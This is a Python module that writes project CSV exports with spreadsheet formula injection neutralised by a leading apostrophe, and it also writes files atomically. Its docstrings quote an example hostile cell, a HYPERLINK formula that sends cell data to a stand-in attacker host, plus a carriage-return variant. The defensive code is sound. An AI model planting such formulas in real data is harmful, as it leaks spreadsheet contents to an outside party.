"""CSV that a spreadsheet opens as data: the one writer every CSV the project produces goes
through (``export``, the explorer's download, ``figures.csv``, the people-file outputs).

Names, departments and campaign titles come from a directory other people edit, so a cell such
as ``=HYPERLINK("http://evil.example/?"&A1,"Click")`` is hostile input. A spreadsheet evaluates
a text cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return (OWASP's list);
such cells are written with a leading apostrophe, which spreadsheets show as text and hide.
``raw=True`` writes the text exactly as it came (for programs, not spreadsheets).
"""

from __future__ import annotations

import io
import os
import tempfile
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = [
    "FORMULA_PREFIXES",
    "csv_text",
    "neutralise_formula",
    "restore_formula",
    "spreadsheet_safe",
    "write_csv",
]

#: First characters that make a spreadsheet read a text cell as a formula (OWASP's list).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def _escaped(text: str) -> bool:
    """True for text that is a formula once its leading apostrophes (if any) are dropped."""
    return text.lstrip("'").startswith(FORMULA_PREFIXES)


def neutralise_formula(value: object) -> object:
    """``value`` with a leading apostrophe when it is text a spreadsheet would run as a formula
    (starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return); anything else unchanged.

    Text that already starts with apostrophes before such a character (``'=1``) gets one more
    too, so that :func:`restore_formula` can tell it from a neutralised ``=1`` and every value
    reads back exactly."""
    if isinstance(value, str) and _escaped(value):
        return "'" + value
    return value


def restore_formula(value: object) -> object:
    """The inverse of :func:`neutralise_formula`, for reading a neutralised CSV back:
    ``restore_formula(neutralise_formula(v)) == v`` for every ``v``."""
    if isinstance(value, str) and value.startswith("'") and _escaped(value[1:]):
        return value[1:]
    return value


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells cannot run as spreadsheet formulas (see
    :func:`neutralise_formula`); numbers, booleans and missing values are left as they are.
    Column names are text from the tenant too (people-file columns), so they are treated alike."""
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_numeric_dtype(series) or pd.api.types.is_bool_dtype(series):
            continue
        out[column] = series.astype(object).map(neutralise_formula)
    out.columns = [neutralise_formula(c) if isinstance(c, str) else c for c in out.columns]
    return out


def csv_text(frame: pd.DataFrame, *, raw: bool = False, **to_csv: Any) -> str:
    """``frame`` as CSV text (no index), neutralised unless ``raw``.

    Rows end with CRLF (RFC 4180) unless ``lineterminator`` is given: the csv writer quotes
    a cell only for the characters of its line terminator, so with a bare ``\n`` a cell
    holding a carriage return (``"Bob\r=HYPERLINK(...)"``) would go out unquoted, and a
    spreadsheet would start a new row there with a formula no prefix check sees."""
    to_csv.setdefault("lineterminator", "\r\n")
    buffer = io.StringIO()
    (frame if raw else spreadsheet_safe(frame)).to_csv(buffer, index=False, **to_csv)
    return buffer.getvalue()


def write_csv(
    frame: pd.DataFrame, path: str | os.PathLike[str], *, raw: bool = False, **to_csv: Any
) -> Path:
    """Write ``frame`` to ``path`` as UTF-8 CSV (neutralised unless ``raw``), atomically: the
    rows go to a file beside the target, renamed over it once complete, so an interrupted
    write never leaves half a file."""
    out = Path(path)
    if not out.parent.is_dir():
        raise ValueError(f"{out}: folder {out.parent} does not exist; create it first.")
    text = csv_text(frame, raw=raw, **to_csv)
    handle, tmp_name = tempfile.mkstemp(prefix=f".{out.name}.", dir=out.parent)
    try:
        with os.fdopen(handle, "w", newline="", encoding="utf-8") as tmp:
            tmp.write(text)
        os.replace(tmp_name, out)
    except BaseException:
        Path(tmp_name).unlink(missing_ok=True)
        raise
    return out
